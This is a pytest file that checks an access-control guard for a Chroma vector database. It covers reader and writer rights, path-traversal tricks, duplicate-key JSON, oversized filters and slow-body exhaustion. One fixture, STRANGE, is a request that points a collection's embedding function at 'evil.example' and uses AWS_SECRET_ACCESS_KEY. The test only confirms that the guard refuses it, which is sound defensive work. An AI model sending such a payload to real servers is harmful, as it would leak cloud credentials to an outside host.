"""Rights before a real Chroma: what the daemon, writers, readers and strangers may ask.

SECURITY.md's table of rights names these tests.
"""

import json
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing, suppress
from pathlib import Path
from typing import Any

import chromadb
import httpx
import pytest
from chromadb.errors import ChromaError, NotFoundError
from pydantic import SecretStr

from ingestor.chroma.guard_rules import (
    BODY_LIMIT,
    NotForwarded,
    Right,
    Treatment,
    access,
    check_filters,
    find_instead,
)
from ingestor.chroma.server import ChromaServer
from ingestor.config.servers import ReaderToken, Supervised
from ingestor.http_server.access import Refusal, rules
from ingestor.http_server.peers import PeerUsers
from tests.chroma.guarding import TOKEN, WRITER, client, request, with_token
from tests.nobody import as_nobody
from tests.serving import HOST, free_port

HOSTS = [(b"host", b"localhost")]
# What a reader may ask besides GET: the end of the path, and how it is treated.
READS = {
    ("post", "/get"): Treatment.CHECK_FILTERS,
    ("post", "/query"): Treatment.CHECK_FILTERS,
    ("post", "/collections"): Treatment.FIND,
}


@pytest.fixture(scope="module")
def docs(open_server: ChromaServer) -> Any:
    """A collection of two records, for a client with the daemon's secret."""
    metadatas = [{"p": 1}, {"p": 1}]
    made = client(open_server.port, open_server.secret).create_collection("rights")
    made.upsert(["a", "b"], embeddings=[[1.0, 0.0], [0.0, 1.0]], documents=["x", "y"], metadatas=metadatas)
    return made


@pytest.fixture(scope="module")
def routes(open_server: ChromaServer) -> list[tuple[str, str]]:
    """Every (method, path) that this Chroma has, as its own description says."""
    told = httpx.get(f"http://{HOST}:{open_server.port}/openapi.json").json()
    return [(method, path) for path, methods in told["paths"].items() for method in methods]


def treated(right: str, method: str, path: str) -> Treatment | Refusal:
    given = {"daemon": "secret", "write": WRITER, "read": TOKEN}[right].encode()
    who = access(rules([], None), "secret", [(TOKEN, "read"), (WRITER, "write")])
    target = path.replace("{", "x").replace("}", "x").encode()
    headers = [*HOSTS, (b"x-chroma-token", given)]
    try:
        return who.judge(method.upper().encode(), target, headers, lambda: False)
    except NotForwarded as error:
        return error.refusal


def test_readers_may_get_query_count_and_nothing_else(routes: list[tuple[str, str]]) -> None:
    assert len(routes) > 25
    for method, path in routes:
        reads = (way for (verb, end), way in READS.items() if verb == method and path.endswith(end))
        expected = Treatment.STREAM if method == "get" else next(reads, 403)
        found = treated("read", method, path)
        assert (found.status if isinstance(found, Refusal) else found) == expected, (method, path)


def test_writers_may_change_what_filters_allow(routes: list[tuple[str, str]]) -> None:
    for method, path in routes:
        found = treated("write", method, path)
        filtered = path.rpartition("/")[2] in ("get", "query", "delete")
        if path.endswith("/search"):
            assert isinstance(found, Refusal)
        else:
            assert found is (Treatment.CHECK_FILTERS if filtered and method == "post" else Treatment.STREAM)


def test_guard_streams_every_request_of_the_daemon(routes: list[tuple[str, str]]) -> None:
    assert {treated("daemon", method, path) for method, path in routes} == {Treatment.STREAM}


@pytest.mark.parametrize(
    "end",
    ["c/%67et", "c/get/", "c//get", "a/b/get", "c/upsert?x=/get", "c/upsert/../get", "c/upsert#/get", ""],
)
def test_paths_that_resemble_a_reading_one_are_refused(end: str) -> None:
    path = f"/api/v2/tenants/t/databases/d/collections/{end}" if end else "/api/v1/collections/c/get"
    found = treated("read", "post", path)
    assert isinstance(found, Refusal) and found.status == 403


# --- readers without a token, of the daemon's user ----------------------------------------------------------


def test_plain_clients_read_what_there_is(open_server: ChromaServer, docs: Any) -> None:
    reader = client(open_server.port)
    assert reader.heartbeat() and reader.get_version() and reader.count_collections()
    assert "rights" in [each.name for each in reader.list_collections()]
    found = reader.get_collection("rights")
    assert found.id == docs.id
    assert (found.count(), found.peek(1)["ids"]) == (2, ["a"])
    assert found.get(["b"], where={"p": 1}, where_document={"$contains": "y"})["documents"] == ["y"]
    assert found.query([[0.1, 1.0]], n_results=1)["ids"] == [["b"]]


def test_get_or_create_of_a_reader_answers_with_the_collection(open_server: ChromaServer, docs: Any) -> None:
    """As LangChain's and LlamaIndex's stores ask it, with what they would have made."""
    before = httpx.get(f"http://{HOST}:{open_server.port}{PATH}/rights").json()
    reader = client(open_server.port)
    asked = {"metadata": {"mine": True}, "configuration": {"hnsw": {"space": "l2"}}}
    for more in ({}, asked):
        assert reader.get_or_create_collection("rights", **more).id == docs.id
    assert httpx.get(f"http://{HOST}:{open_server.port}{PATH}/rights").json() == before
    with pytest.raises(NotFoundError, match="absent"):
        reader.get_or_create_collection("absent")
    assert "absent" not in [each.name for each in reader.list_collections()]


PATH = "/api/v2/tenants/default_tenant/databases/default_database/collections"
STRANGE = {"new_configuration": {"embedding_function": {
    "type": "known", "name": "huggingface_server",
    "config": {"url": "http://evil.example", "api_key_env_var": "AWS_SECRET_ACCESS_KEY"},
}}}  # fmt: skip
CHANGES: dict[str, Callable[[Any, Any], object]] = {
    "create": lambda reader, docs: reader.create_collection("mine"),
    "rename": lambda reader, docs: docs.modify(name="mine"),
    "metadata": lambda reader, docs: docs.modify(metadata={"a": 1}),
    "add": lambda reader, docs: docs.add(["c"], embeddings=[[1.0, 1.0]]),
    "upsert": lambda reader, docs: docs.upsert(["a"], embeddings=[[1.0, 1.0]]),
    "update": lambda reader, docs: docs.update(["a"], metadatas=[{"p": 2}]),
    "delete records": lambda reader, docs: docs.delete(["a"]),
    "delete": lambda reader, docs: reader.delete_collection("rights"),
    "fork": lambda reader, docs: docs.fork("mine"),
}


@pytest.mark.parametrize("change", CHANGES)
def test_changes_of_a_reader_are_refused(open_server: ChromaServer, docs: Any, change: str) -> None:
    reader, before = client(open_server.port), docs.get(include=["embeddings", "metadatas"])
    with pytest.raises(ChromaError, match=r"only ingestor changes .* may: write"):
        CHANGES[change](reader, reader.get_collection("rights"))
    assert str(docs.get(include=["embeddings", "metadatas"])) == str(before)
    assert "mine" not in [each.name for each in reader.list_collections()]


def test_embedding_function_of_other_readers_is_not_changed(open_server: ChromaServer, docs: Any) -> None:
    at = f"http://{HOST}:{open_server.port}{PATH}/{docs.id}"
    before = httpx.get(f"http://{HOST}:{open_server.port}{PATH}/rights").json()
    assert httpx.put(at, json=STRANGE).status_code == 403
    assert httpx.get(f"http://{HOST}:{open_server.port}{PATH}/rights").json() == before


# --- other users, and tokens --------------------------------------------------------------------------------

ASK = r"""
import sys, urllib.error, urllib.request
for request in sys.argv[2:]:
    method, _, path = request.partition(" ")
    at = f"http://127.0.0.1:{sys.argv[1]}{path}"
    asked = urllib.request.Request(at, b"{}" if method == "POST" else None)
    try:
        print(urllib.request.urlopen(asked).status)
    except urllib.error.HTTPError as error:
        print(error.code, "chroma: {token: ...}" in error.read().decode())
"""


def test_other_user_without_a_token_is_refused_with_the_reason(open_server: ChromaServer) -> None:
    asked = ("GET /api/v2/heartbeat", f"GET {PATH}", f"POST {PATH}/x/get")
    command = as_nobody(sys.executable, "-c", ASK, str(open_server.port), *asked)
    done = subprocess.run(command, capture_output=True, text=True, check=True, cwd="/")
    if as_nobody() == []:
        pytest.skip("needs root, to be another user")
    assert done.stdout.splitlines() == ["401 True"] * 3


def test_peer_elsewhere_is_refused_without_a_token() -> None:
    """The kernel is not asked for it: no address but loopback's is of this machine for sure."""
    with closing(PeerUsers()) as peers:
        alone = access(rules([], None), "secret", [])
        for peer in ("192.0.2.1", "10.0.0.1", "::ffff:192.0.2.1", "2001:db8::1"):
            with pytest.raises(NotForwarded, match="without a token"):
                alone.judge(
                    *(b"GET", b"/api/v2/heartbeat", HOSTS),
                    lambda peer=peer: peers.is_ours((peer, 1), ("::", 8000)),
                )


def test_entry_without_a_token_opens_the_port_to_all(tmp_path: Path) -> None:
    tokens = ReaderToken(may="read"), ReaderToken(token=SecretStr(WRITER), may="write")
    place = tmp_path / "db", HOST, free_port(), tmp_path / "log"
    with ChromaServer(*place, tokens=Supervised(tokens=tokens).rights) as server:
        assert "everybody may read" in server.level
        command = as_nobody(sys.executable, "-c", ASK, str(server.port), f"GET {PATH}")
        done = subprocess.run(command, capture_output=True, text=True, check=True, cwd="/")
        assert done.stdout == "200\n"
        with_token(server.port, WRITER).create_collection("mine")
        with pytest.raises(ChromaError, match="only ingestor changes"):
            client(server.port).delete_collection("mine")


def test_token_that_may_write_writes(guarded: ChromaServer) -> None:
    made = with_token(guarded.port, WRITER).create_collection("written")
    made.add(["a"], embeddings=[[1.0]])
    with pytest.raises(ChromaError, match="only ingestor changes"):
        with_token(guarded.port, TOKEN).get_collection("written").delete(["a"])
    made.delete(["a"], where={"p": 1})
    assert made.count() == 1
    with_token(guarded.port, WRITER).delete_collection("written")


# --- whose a socket is --------------------------------------------------------------------------------------


@pytest.fixture
def peers() -> Iterator[PeerUsers]:
    with closing(PeerUsers()) as found:
        yield found


def test_kernel_reports_the_user_of_a_peer(peers: PeerUsers) -> None:
    assert peers.missing == ""
    with socket.create_server((HOST, 0)) as server, socket.create_connection(server.getsockname()) as peer:
        here = server.getsockname()
        assert peers.is_ours(peer.getsockname(), here)
        assert not peers.is_ours((HOST, 1), here)
        assert not peers.is_ours(("192.0.2.1", peer.getsockname()[1]), here)


def test_listener_on_the_peers_port_is_not_taken_for_the_peer(peers: PeerUsers) -> None:
    """Else whoever sends from port 22 would count as the user of sshd."""
    with socket.create_server((HOST, 0)) as server, socket.create_server(("", 0)) as listener:
        assert not peers.is_ours((HOST, listener.getsockname()[1]), server.getsockname())


def test_peer_that_closed_its_socket_is_nobodys(peers: PeerUsers) -> None:
    """The kernel names root as the user of such a socket."""
    with socket.create_server((HOST, 0)) as server:
        peer = socket.create_connection(server.getsockname())
        at = peer.getsockname()
        peer.sendall(b"GET / HTTP/1.1\r\n\r\n")
        peer.close()
        assert not peers.is_ours(at, server.getsockname())


@pytest.mark.parametrize(("listen", "ask"), [("::1", "::1"), ("::", HOST), ("::", "::1")])
def test_peers_of_ipv6_and_of_both_are_known(peers: PeerUsers, listen: str, ask: str) -> None:
    with socket.socket(socket.AF_INET6) as server:
        server.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        server.bind((listen, 0))
        server.listen()
        with socket.create_connection((ask, server.getsockname()[1])):
            accepted, peer = server.accept()
            with accepted:
                assert peers.is_ours(peer[:2], accepted.getsockname()[:2])


# --- filters ------------------------------------------------------------------------------------------------

HEAVY = {
    "5,000 conditions": ({"where": {"$or": [{"p": n} for n in range(5000)]}}, "at most 250 conditions"),
    "30,000 values": ({"where": {"p": {"$in": [*range(30_000)]}}}, "at most 5,000 values"),
    "texts": ({"where_document": {"$or": [{"$contains": str(n)} for n in range(1000)]}}, "250 conditions"),
    "both": ({"where": {"$or": [{"p": n} for n in range(150)]},
              "where_document": {"$or": [{"$contains": str(n)} for n in range(150)]}}, "250 conditions"),
    "40,000 ids": ({"ids": [f"x{n}" for n in range(40_000)]}, "at most 20,000 ids"),
}  # fmt: skip


@pytest.mark.parametrize("action", ["get", "query", "delete"])
@pytest.mark.parametrize("what", HEAVY)
def test_request_that_chroma_cannot_bear_is_refused(guarded: ChromaServer, what: str, action: str) -> None:
    """Writers, too, whose request to delete may have a filter."""
    body, words = HEAVY[what]
    more = {"query_embeddings": [[1.0, 0.0]]} if action == "query" else {}
    answer = httpx.post(
        f"http://{HOST}:{guarded.port}{PATH}/x/{action}",
        json=body | more,
        headers={"X-Chroma-Token": WRITER if action == "delete" else TOKEN},
    )
    assert (answer.status_code, guarded.poll()) == (422, None)
    assert words in answer.json()["message"]


@pytest.mark.parametrize("action", ["get", "query"])
def test_filters_at_the_bound_are_answered(open_server: ChromaServer, docs: Any, action: str) -> None:
    reader = client(open_server.port).get_collection("rights")
    most = {"$and": [{"p": {"$in": [*range(4000)]}}, {"$or": [{"p": n} for n in range(249)]}]}
    if action == "get":
        missing = [f"x{n}" for n in range(19_998)]
        assert reader.get([*missing, "a", "b"], where=most)["ids"] == ["a", "b"]
    else:
        assert reader.query([[1.0, 0.0]], n_results=1, where=most)["ids"] == [["a"]]


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b"", 400),
        (b"[]", 400),
        (b"{", 400),
        (b'{"where": "\\ud800"}', 400),
        (b'{"ids": ' + b"[" * 500 + b"]" * 500 + b"}", 400),
        (b'{"where": {}, "where": {"$or": [' + b'{"a": 1},' * 300 + b'{"a": 1}]}}', 422),
    ],
)
def test_bodies_that_are_not_understood_are_refused(body: bytes, status: int) -> None:
    with pytest.raises(NotForwarded) as found:
        check_filters(body)
    assert found.value.refusal.status == status


def test_chroma_reads_what_the_guard_read() -> None:
    """A key that comes twice could mean the one here and the other there."""
    evil = b'{"where": {"$or": [' + b'{"a": 1},' * 300 + b'{"a": 1}]}, "where": {"a": 1}, "limit": 3}'
    assert json.loads(check_filters(evil)) == {"where": {"a": 1}, "limit": 3}


def test_names_of_collections_stay_one_part_of_the_path() -> None:
    assert find_instead(b"/c?x=1", b'{"name": "a/../b?c", "get_or_create": true}') == b"/c/a%2F..%2Fb%3Fc"
    for body in (b'{"name": "a"}', b'{"name": 1, "get_or_create": true}', b'{"get_or_create": true}'):
        with pytest.raises(NotForwarded):
            find_instead(b"/c", body)


def head_of(length: int) -> bytes:
    path = b"%b/x/get" % PATH.encode()
    return request(b"Content-Length: %d" % length, method=b"POST", path=path)


def test_body_beyond_the_limit_is_refused_before_it_is_read(open_server: ChromaServer) -> None:
    with socket.create_connection((HOST, open_server.port), 30) as reader:
        reader.sendall(head_of(BODY_LIMIT + 1_000_000) + b" " * (BODY_LIMIT + 1))
        assert reader.recv(100).startswith(b"HTTP/1.1 413 ")


def test_bodies_that_do_not_end_make_room_for_others(open_server: ChromaServer, docs: Any) -> None:
    """Twelve of them would fill what all may hold; the oldest go, and readers are answered."""
    with ExitStack() as stack:
        unfinished = [socket.create_connection((HOST, open_server.port), 30) for _ in range(12)]
        for reader in unfinished:
            stack.callback(reader.close)
            reader.sendall(head_of(BODY_LIMIT) + b" " * (BODY_LIMIT - 1))
        assert client(open_server.port).get_collection("rights").get(["a"])["ids"] == ["a"]
        unfinished[-1].sendall(b"x")
        assert unfinished[-1].recv(100).startswith(b"HTTP/1.1 400 ")
        with suppress(ConnectionError):
            unfinished[0].sendall(b"x")
            assert unfinished[0].recv(100) == b""


def test_rights_are_ordered() -> None:
    assert Right.READ < Right.WRITE < Right.ALL
    assert chromadb.__version__ == "1.5.9"  # the routes above are this version's
